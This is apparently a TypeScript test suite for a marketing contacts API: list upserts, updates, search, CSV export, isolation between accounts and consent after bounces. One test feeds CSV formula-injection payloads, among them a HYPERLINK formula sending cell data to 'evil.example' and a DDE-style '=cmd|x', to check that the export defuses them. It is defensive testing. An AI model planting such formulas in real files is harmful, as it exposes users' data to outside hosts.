/**
 * Contacts of the marketing area (/inbox/v1) as clients use them: added to a list by
 * address (an upsert answering the bare contact id), taken off it, read, searched,
 * changed by POST (tags, custom field values stored as sent), given a status, deleted
 * everywhere. And the consent rule (docs/marketing.md): a hard bounce of a transactional
 * send (real SMTP, a 550 from the recipient's server) or a complaint marks every contact
 * with the address, and neither an import-style re-add nor a status change quietly
 * re-subscribes it.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createApiKey } from '../helpers/accounts.js';
import { expectEnvelope, type TestAccount, type TestApp } from '../helpers/app.js';
import { errorFields } from '../helpers/bodies.js';
import { DIALECTS } from '../helpers/db.js';
import { outcomeOf, sendMessage } from '../helpers/delivery-api.js';
import { startRelayedTestApp, type RelayedTestApp } from '../helpers/relayed-app.js';

const ID = /^[0-9a-f]{24}$/;
const CONTACT_KEYS = [
  'createTime',
  'createUserId',
  'customFields',
  'email',
  'id',
  'isDeleted',
  'listIds',
  'rank',
  'status',
  'tags',
  'updateTime',
  'updateUserId',
];

type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';

for (const dialect of DIALECTS) {
  describe(`marketing contacts [${dialect}]`, () => {
    let relayed: RelayedTestApp;
    let app: TestApp;
    let a: TestAccount;
    let b: TestAccount;

    before(async () => {
      relayed = await startRelayedTestApp(dialect);
      app = relayed.app;
      a = await app.signUp();
      b = await app.signUp();
    });
    after(() => relayed.close());

    const call = (method: Method, url: string, body?: unknown, account = a) => app.request({ method, url, token: account.token, body });
    const ok = async (method: Method, url: string, body?: unknown, status = 200, account = a) =>
      expectEnvelope(await call(method, url, body, account), status).resultObject;
    const newList = async (name = 'List', account = a) => (await ok('POST', '/inbox/v1/contactlists', { listName: name }, 201, account)).id as string;
    const newField = async (name: string, type = 0, account = a) =>
      (await ok('POST', '/inbox/v1/customfields', { Name: name, Type: type }, 201, account)).id as string;
    const add = (listId: string, body: Record<string, unknown>, account = a) => ok('POST', `/inbox/v1/contactlists/${listId}/add`, body, 200, account);
    const contact = (id: string) => ok('GET', `/inbox/v1/contacts/${id}`);

    it('add (M10) answers the bare contact id and upserts by address; customFields null and [] mean none', async () => {
      const list = await newList();
      const city = await newField('City');
      const id = await add(list, { email: 'Ann@Example.net', customFields: [{ customFieldId: city, value: 'Berlin' }] });
      assert.equal(typeof id, 'string');
      assert.match(id, ID);
      assert.equal(await add(list, { email: 'ann@example.net', customFields: null }), id);
      assert.equal(await add(list, { Email: 'ANN@example.NET', CustomFields: [] }), id);
      const other = await newList('Other');
      assert.equal(await add(other, { email: 'ann@example.net' }), id, 'the same contact on a second list');

      const ann = await contact(id);
      assert.deepEqual(Object.keys(ann).sort(), CONTACT_KEYS);
      assert.equal(ann.email, 'Ann@Example.net', 'the address as first given');
      assert.deepEqual([ann.status, ann.rank, ann.tags], [1, 0, []]);
      assert.deepEqual(ann.customFields, [{ customFieldId: city, name: 'City', type: 0, value: 'Berlin' }]);
      assert.deepEqual(ann.listIds.sort(), [list, other].sort());
    });

    it('update (M16) by POST: tags replaced, values stored as sent, the bare id back', async () => {
      const list = await newList();
      const [city, age, vip] = [await newField('City', 1), await newField('Age', 2), await newField('Vip', 3)];
      const id = await add(list, { email: 'bob@example.net', customFields: [{ customFieldId: city, value: 'Paris' }] });
      assert.equal(
        await ok('POST', `/inbox/v1/contacts/${id}`, {
          tags: ['vip', ' berlin ', 'vip'],
          customFields: [
            { customFieldId: age, value: 'not a number' },
            { customFieldId: vip, value: true },
          ],
        }),
        id,
      );
      let bob = await contact(id);
      assert.deepEqual(bob.tags, ['berlin', 'vip']);
      assert.deepEqual(bob.customFields.map((f: any) => [f.name, f.type, f.value]).sort(), [
        ['Age', 2, 'not a number'],
        ['City', 1, 'Paris'],
        ['Vip', 3, 'true'],
      ]);

      // Absent or null tags and [] / null customFields change nothing; a null value removes that value.
      assert.equal(await ok('POST', `/inbox/v1/contacts/${id}`, { tags: null, customFields: [] }), id);
      assert.equal(await ok('POST', `/inbox/v1/contacts/${id}`, { customFields: [{ customFieldId: city, value: null }] }), id);
      bob = await contact(id);
      assert.deepEqual(bob.tags, ['berlin', 'vip']);
      assert.deepEqual(bob.customFields.map((f: any) => f.name).sort(), ['Age', 'Vip']);
      assert.equal(await ok('POST', `/inbox/v1/contacts/${id}`, { tags: [] }), id);
      assert.deepEqual((await contact(id)).tags, []);
      // The same update posted to /status, as one published client does.
      assert.equal(await ok('POST', `/inbox/v1/contacts/${id}/status`, { Tags: ['via-status'] }), id);
      assert.deepEqual((await contact(id)).tags, ['via-status']);
      await ok('POST', `/inbox/v1/contacts/${id}`, { tags: [] });

      // A deleted field's values are gone with it.
      await ok('DELETE', `/inbox/v1/customfields/${age}`);
      assert.deepEqual(
        (await contact(id)).customFields.map((f: any) => f.name),
        ['Vip'],
      );
    });

    it('status (M17): 1–4 answer true, anything else is a 400; re-adding keeps an unsubscribed contact unsubscribed', async () => {
      const list = await newList();
      const id = await add(list, { email: 'cy@example.net' });
      for (const status of [3, 4, 2, 1, 3]) {
        assert.equal(await ok('PATCH', `/inbox/v1/contacts/${id}/status`, { status }), true);
        assert.equal((await contact(id)).status, status);
      }
      assert.equal(await add(await newList('Again'), { email: 'cy@example.net' }), id);
      assert.equal((await contact(id)).status, 3, 'adding again does not re-subscribe');
      for (const status of [0, 5, '3', null]) {
        assert.deepEqual(errorFields(expectEnvelope(await call('PATCH', `/inbox/v1/contacts/${id}/status`, { status }), 400)), ['status']);
      }
    });

    it('remove from a list (M11), delete everywhere, and the 404s', async () => {
      const [one, two] = [await newList('One'), await newList('Two')];
      const id = await add(one, { email: 'dee@example.net', tags: ['gone'] });
      await add(two, { email: 'dee@example.net' });
      assert.equal(await ok('DELETE', `/inbox/v1/contactlists/${one}/delete/${id}`), true);
      assert.deepEqual((await contact(id)).listIds, [two], 'still a contact, on the other list');
      expectEnvelope(await call('DELETE', `/inbox/v1/contactlists/${one}/delete/${id}`), 404);
      expectEnvelope(await call('DELETE', `/inbox/v1/contactlists/${one}/delete/not-an-id`), 404);

      assert.equal(await ok('DELETE', `/inbox/v1/contacts/${id}`), true);
      expectEnvelope(await call('GET', `/inbox/v1/contacts/${id}`), 404);
      expectEnvelope(await call('POST', `/inbox/v1/contacts/${id}`, { tags: ['x'] }), 404);
      expectEnvelope(await call('PATCH', `/inbox/v1/contacts/${id}/status`, { status: 3 }), 404);
      expectEnvelope(await call('DELETE', `/inbox/v1/contacts/${id}`), 404);
      assert.equal((await ok('GET', `/inbox/v1/contactlists/${two}`)).count, 0);
      assert.ok(!(await ok('GET', '/inbox/v1/tags')).items.some((t: any) => t.tag === 'gone'));
      // The address can come back as a new contact.
      const again = await add(two, { email: 'dee@example.net' });
      assert.notEqual(again, id);
    });

    it('list (M14) and search by address, list and tag; the tags with their counts', async () => {
      const list = await newList('Searched');
      const eve = await add(list, { email: 'eve@example.net', tags: ['search-a', 'search-b'] });
      const fay = await add(list, { email: 'fay@example.net', tags: ['search-a'] });
      await add(await newList('Elsewhere'), { email: 'gus@example.net' });

      const all = await ok('GET', '/inbox/v1/contacts');
      assert.deepEqual(Object.keys(all).sort(), ['displayCount', 'items', 'totalCount']);
      assert.ok(all.items.some((c: any) => c.id === eve));
      const byEmail = await ok('GET', '/inbox/v1/contacts?email=EVE%40example.net');
      assert.deepEqual(
        byEmail.items.map((c: any) => c.id),
        [eve],
      );
      assert.equal(byEmail.totalCount, 1);
      assert.deepEqual(
        (await ok('GET', `/inbox/v1/contacts?listId=${list}`)).items.map((c: any) => c.id),
        [fay, eve],
      );
      assert.deepEqual(
        (await ok('GET', '/inbox/v1/contacts?tag=search-b')).items.map((c: any) => c.id),
        [eve],
      );
      assert.deepEqual((await ok('GET', '/inbox/v1/contacts?listId=nonsense')).items, []);
      const paged = await ok('GET', `/inbox/v1/contacts?listId=${list}&pageSize=1`);
      assert.deepEqual([paged.displayCount, paged.totalCount], [1, 2]);

      const tags = (await ok('GET', '/inbox/v1/tags')).items.filter((t: any) => t.tag.startsWith('search-'));
      assert.deepEqual(tags, [
        { tag: 'search-a', contactsCount: 2 },
        { tag: 'search-b', contactsCount: 1 },
      ]);
    });

    it('a list exports as CSV: header, one quoted-where-needed row per contact, every page', async () => {
      const list = await newList('Exported');
      const note = await newField('Note');
      await add(list, { email: 'ex1@example.net', tags: ['a', 'b'], customFields: [{ customFieldId: note, value: 'says "hi", twice\nthen leaves' }] });
      for (let i = 2; i <= 503; i++) await add(list, { email: `ex${i}@example.net` });
      const response = await call('GET', `/inbox/v1/contactlists/${list}/export`);
      assert.equal(response.status, 200);
      assert.match(String(response.headers['content-type']), /^text\/csv/);
      const lines = response.text.split('\r\n');
      assert.equal(lines.at(-1), '', 'every record ends with CRLF');
      const header = lines[0]!.split(',');
      assert.deepEqual(header.slice(0, 5), ['email', 'status', 'createTime', 'updateTime', 'tags']);
      const noteColumn = header.indexOf('Note');
      assert.ok(noteColumn >= 5);
      assert.equal(lines.length - 2, 503, 'every contact, across pages');
      const first = response.text.slice(response.text.indexOf('ex1@example.net'));
      assert.match(first, /^ex1@example\.net,1,[^,]+,[^,]+,a;b,/);
      assert.ok(first.includes('"says ""hi"", twice\nthen leaves"'), 'quoted, quotes doubled, line break kept');
      expectEnvelope(await call('GET', `/inbox/v1/contactlists/${await newList('Theirs', b)}/export`), 404);
    });

    it('the export defuses formulas in addresses, tags, values and header names (a leading apostrophe), read back by a CSV parser', async () => {
      const account = await app.signUp();
      const list = await newList('Hostile', account);
      const field = await newField('=HYPERLINK("http://evil.example/?x="&A2,"open")', 0, account);
      const hostile: [string, string[], string][] = [
        ['=1+2@example.net', ['=cmd|x'], '@SUM(1,2)'],
        ['+31@example.net', ['-x'], '+1'],
        ['-rm@example.net', ['@at'], '-2'],
        ['tab@example.net', ['plain'], '\tTAB'],
        ['plain@example.net', ['a=b'], '\rCR'],
      ];
      for (const [email, tags, value] of hostile) await add(list, { email, tags, customFields: [{ customFieldId: field, value }] }, account);
      const response = await app.request({ method: 'GET', url: `/inbox/v1/contactlists/${list}/export`, token: account.token });
      assert.equal(response.status, 200);
      assert.equal(response.headers['content-disposition'], 'attachment; filename="contacts.csv"');
      const [header, ...rows] = parse(response.text) as string[][];
      assert.equal(header!.at(-1), '\'=HYPERLINK("http://evil.example/?x="&A2,"open")', 'the header name of a custom field');
      const byEmail = new Map(rows.map((r) => [r[0], [r[4], r.at(-1)]]));
      assert.deepEqual(Object.fromEntries(byEmail), {
        "'=1+2@example.net": ["'=cmd|x", "'@SUM(1,2)"],
        "'+31@example.net": ["'-x", "'+1"],
        "'-rm@example.net": ["'@at", "'-2"],
        'tab@example.net': ['plain', "'\tTAB"],
        'plain@example.net': ['a=b', "'\rCR"],
      });
      for (const row of rows) assert.equal(row[1], '1', 'other cells as they are');
    });

    it("add with custom field ids unknown to the account (deleted, mistyped, another account's) adds the contact and names the skipped ids", async () => {
      const list = await newList();
      const city = await newField('City');
      const theirs = await newField('Theirs', 0, b);
      const gone = await newField('Gone');
      expectEnvelope(await call('DELETE', `/inbox/v1/customfields/${gone}`), 200);
      const response = await call('POST', `/inbox/v1/contactlists/${list}/add`, {
        email: 'hal@example.net',
        customFields: [
          { customFieldId: theirs, value: 'x' },
          { customFieldId: city, value: 'Oslo' },
          { customFieldId: gone, value: 'y' },
          { customFieldId: 'no-such-field', value: 'z' },
        ],
      });
      const body = expectEnvelope(response, 200);
      assert.match(body.resultObject, ID, 'the answer is still the bare contact id');
      for (const skipped of [theirs, gone, 'no-such-field']) assert.ok(body.resultMessage.includes(skipped), `${skipped} in: ${body.resultMessage}`);
      assert.ok(!body.resultMessage.includes(city), 'the known field is not named as skipped');
      assert.match(body.resultMessage, /customFields\[0\], customFields\[2\], customFields\[3\]/);
      const hal = await contact(body.resultObject);
      assert.deepEqual(hal.customFields, [{ customFieldId: city, name: 'City', type: 0, value: 'Oslo' }]);
      assert.deepEqual(hal.listIds, [list]);
      assert.equal((await ok('GET', '/inbox/v1/contacts?email=hal@example.net', undefined, 200, b)).totalCount, 0, 'nothing reached the other account');
      assert.equal(
        expectEnvelope(
          await call('POST', `/inbox/v1/contactlists/${list}/add`, { email: 'ivy@example.net', customFields: [{ customFieldId: city, value: 'Rome' }] }),
          200,
        ).resultMessage,
        'Success',
        'nothing skipped: the usual message',
      );
    });

    it("bad bodies: 400 naming the field; another account's field is not usable in an update", async () => {
      const list = await newList();
      assert.deepEqual(errorFields(expectEnvelope(await call('POST', `/inbox/v1/contactlists/${list}/add`, {}), 400)), ['email']);
      assert.deepEqual(errorFields(expectEnvelope(await call('POST', `/inbox/v1/contactlists/${list}/add`, { email: 'not an address' }), 400)), ['email']);
      const theirs = await newField('Theirs', 0, b);
      const mine = await add(list, { email: 'kim@example.net' });
      assert.deepEqual(
        errorFields(expectEnvelope(await call('POST', `/inbox/v1/contacts/${mine}`, { customFields: [{ customFieldId: theirs, value: 'x' }] }), 400)),
        ['customFields[0].customFieldId'],
      );
      assert.ok(
        errorFields(
          expectEnvelope(
            await call('POST', `/inbox/v1/contactlists/${list}/add`, {
              email: 'hal@example.net',
              customFields: [{ value: 'x' }],
            }),
            400,
          ),
        ).includes('customFields[0].customFieldId'),
      );
      expectEnvelope(await call('POST', '/inbox/v1/contactlists/0123456789abcdef01234567/add', { email: 'hal@example.net' }), 404);
    });

    it("consents: 404 like every contact route for a missing, deleted or another account's contact; [] for one without any", async () => {
      const list = await newList('Consents');
      const id = await add(list, { email: 'kim@example.net' });
      assert.deepEqual(await ok('GET', `/inbox/v1/contacts/${id}/consents`), []);
      const theirs = await add(await newList('Their consents', b), { email: 'kim@example.net' }, b);
      for (const missing of ['0123456789abcdef01234567', 'not-an-id', theirs]) {
        const body = expectEnvelope(await call('GET', `/inbox/v1/contacts/${missing}/consents`), 404);
        assert.equal(body.resultMessage, 'Contact was not found.');
      }
      assert.equal(await ok('DELETE', `/inbox/v1/contacts/${id}`), true);
      expectEnvelope(await call('GET', `/inbox/v1/contacts/${id}/consents`), 404);
    });

    it("another account's contacts are not found, not listed, not changed; keys need the marketing scope", async () => {
      const theirList = await newList('Theirs', b);
      const theirs = await add(theirList, { email: 'ivy@example.net', tags: ['b-secret'] }, b);
      expectEnvelope(await call('GET', `/inbox/v1/contacts/${theirs}`), 404);
      expectEnvelope(await call('POST', `/inbox/v1/contacts/${theirs}`, { tags: ['mine'] }), 404);
      expectEnvelope(await call('PATCH', `/inbox/v1/contacts/${theirs}/status`, { status: 3 }), 404);
      expectEnvelope(await call('DELETE', `/inbox/v1/contacts/${theirs}`), 404);
      expectEnvelope(await call('DELETE', `/inbox/v1/contactlists/${theirList}/delete/${theirs}`), 404);
      const mine = await newList('Mine');
      // Putting b's contact id on a's list: the id is not a's.
      const mineListed = await ok('GET', `/inbox/v1/contacts?listId=${theirList}`);
      assert.deepEqual(mineListed.items, []);
      assert.ok(!JSON.stringify(await ok('GET', '/inbox/v1/contacts?email=ivy%40example.net')).includes(theirs));
      assert.ok(!JSON.stringify(await ok('GET', '/inbox/v1/tags')).includes('b-secret'));
      // The same address in a's account is a contact of a's own.
      const own = await add(mine, { email: 'ivy@example.net' });
      assert.notEqual(own, theirs);
      const b1 = await ok('GET', `/inbox/v1/contacts/${theirs}`, undefined, 200, b);
      assert.deepEqual([b1.status, b1.tags], [1, ['b-secret']]);

      const key = (await createApiKey(app, a.token, ['marketing'])).key;
      const readOnly = (await createApiKey(app, a.token, ['read'])).key;
      assert.equal(
        expectEnvelope(
          await app.request({ method: 'POST', url: `/inbox/v1/contactlists/${mine}/add`, headers: { 'x-api-key': key }, body: { email: 'jo@example.net' } }),
          200,
        ).resultObject.length,
        24,
      );
      expectEnvelope(await app.request({ method: 'GET', url: `/inbox/v1/contacts/${own}`, headers: { authorization: `Bearer ${key}` } }), 200);
      expectEnvelope(await app.request({ method: 'GET', url: `/inbox/v1/contacts/${own}`, headers: { 'x-api-key': readOnly } }), 403);
    });

    describe('consent: one rule across streams', () => {
      it('a hard bounce of a transactional send marks every contact with the address (status 2), on every list', async () => {
        const [one, two] = [await newList('Bounce one'), await newList('Bounce two')];
        const id = await add(one, { email: 'reject+marketing@example.net' });
        await add(two, { email: 'Reject+Marketing@example.net' });
        assert.equal((await contact(id)).status, 1);
        const sent = await sendMessage(app, a, ['reject+marketing@example.net']);
        assert.equal((await outcomeOf(app, a, sent, 'reject+marketing@example.net')).state, 'bounced');
        assert.equal((await contact(id)).status, 2);
        const listed = await ok('GET', `/inbox/v1/contacts?listId=${two}`);
        assert.deepEqual(
          listed.items.map((c: any) => c.status),
          [2],
        );
        // Setting it active again would hide the bounce: refused until the suppression is lifted.
        expectEnvelope(await call('PATCH', `/inbox/v1/contacts/${id}/status`, { status: 1 }), 409);
        assert.equal(await ok('DELETE', `/notify/v1/suppressions/${encodeURIComponent('reject+marketing@example.net')}`), true);
        assert.equal((await contact(id)).status, 1);
        // The other account's contact with the same address is untouched.
        const theirs = await add(await newList('B', b), { email: 'reject+marketing@example.net' }, b);
        assert.equal((await ok('GET', `/inbox/v1/contacts/${theirs}`, undefined, 200, b)).status, 1);
      });

      it('a complaint marks the contact as spam reported (status 4), also one added afterwards', async () => {
        await ok('POST', '/notify/v1/suppressions', { email: 'kim@example.net', reason: 'complaint' }, 201);
        const id = await add(await newList('Complaint'), { email: 'KIM@example.net' });
        assert.equal((await contact(id)).status, 4);
        expectEnvelope(await call('PATCH', `/inbox/v1/contacts/${id}/status`, { status: 1 }), 409);
        assert.equal(await ok('PATCH', `/inbox/v1/contacts/${id}/status`, { status: 3 }), true);
        assert.equal((await contact(id)).status, 4, 'the complaint still shows');
      });
    });
  });
}
